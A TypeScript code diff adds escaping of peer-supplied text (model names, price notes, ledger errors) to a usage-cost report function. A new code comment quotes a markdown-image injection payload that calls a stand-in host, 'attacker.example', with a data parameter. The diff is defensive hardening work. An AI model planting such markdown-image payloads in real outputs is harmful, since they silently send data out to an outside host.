@@ -59,10 +59,16 @@ export type SpendView = ReturnType<typeof spendView>;
 
 const usd = (x: number) => `$${x.toFixed(4)}`;
 
-/** Plain lines (status prints them indented, the report as a list). */
-export function spendLines(v: SpendView): string[] {
+/**
+ * Plain lines (status prints them indented, the report as a list). A model name is the peer's to
+ * choose (the sidecar records the request's when a reply names none), so it, a price note and a
+ * ledger error pass through `quote`, the sink's rule for a peer's words: REPORT.md's mdText (a
+ * model named `![x](https://attacker.example/?d=…)` was an image in the report); the HTML and the
+ * terminal make the whole line safe themselves. SECURITY.md, "Peer text outside the sandbox is inert".
+ */
+export function spendLines(v: SpendView, quote: (peerText: string) => string = (t) => t): string[] {
   const out: string[] = [];
-  if (v.ledger_error) out.push(`the usage ledger cannot be read (the run is held): ${v.ledger_error}`);
+  if (v.ledger_error) out.push(`the usage ledger cannot be read (the run is held): ${quote(v.ledger_error)}`);
   out.push(`${usd(v.usd)}, ${v.tokens} tokens — ${v.source === 'ledger' ? `auth sidecar's usage ledger${v.replies !== null ? `, ${v.replies} replies` : ''}` : "the CLIs' own figures (no sidecar ledger)"}; USD at list prices of ${v.price_table}`);
   if (v.in_flight?.requests) out.push(`at the vendor now: ${v.in_flight.requests} request${v.in_flight.requests === 1 ? '' : 's'}, reserved at up to ${usd(v.in_flight.usd)}, ${v.in_flight.tokens} tokens (spent when their replies end)`);
   if (v.this_turn && (v.this_turn.tokens || v.this_turn.usd)) out.push(`of which the turn under way: ${usd(v.this_turn.usd)}, ${v.this_turn.tokens} tokens`);
@@ -71,7 +77,7 @@ export function spendLines(v: SpendView): string[] {
   }
   if (v.policy?.mode === 'warn') out.push(`max_usd is not enforced (${v.policy.reason}): the USD figure is what the same tokens cost on the API`);
   if (v.cut_short) out.push(`${v.cut_short} repl${v.cut_short === 1 ? 'y was' : 'ies were'} cut short (client abort, upstream error or stall): the missing part is estimated`);
-  for (const f of v.fallback) out.push(`priced conservatively: ${f.model || '(no model)'} — ${f.replies} repl${f.replies === 1 ? 'y' : 'ies'}, ${usd(f.usd)} (${f.note})`);
+  for (const f of v.fallback) out.push(`priced conservatively: ${f.model ? quote(f.model) : '(no model)'} — ${f.replies} repl${f.replies === 1 ? 'y' : 'ies'}, ${usd(f.usd)} (${quote(f.note)})`);
   for (const r of Object.values(v.refusals)) {
     if (!r) continue;
     const unit = r.cap === 'max_usd' ? usd : (x: number) => `${Math.ceil(x)} tokens`;
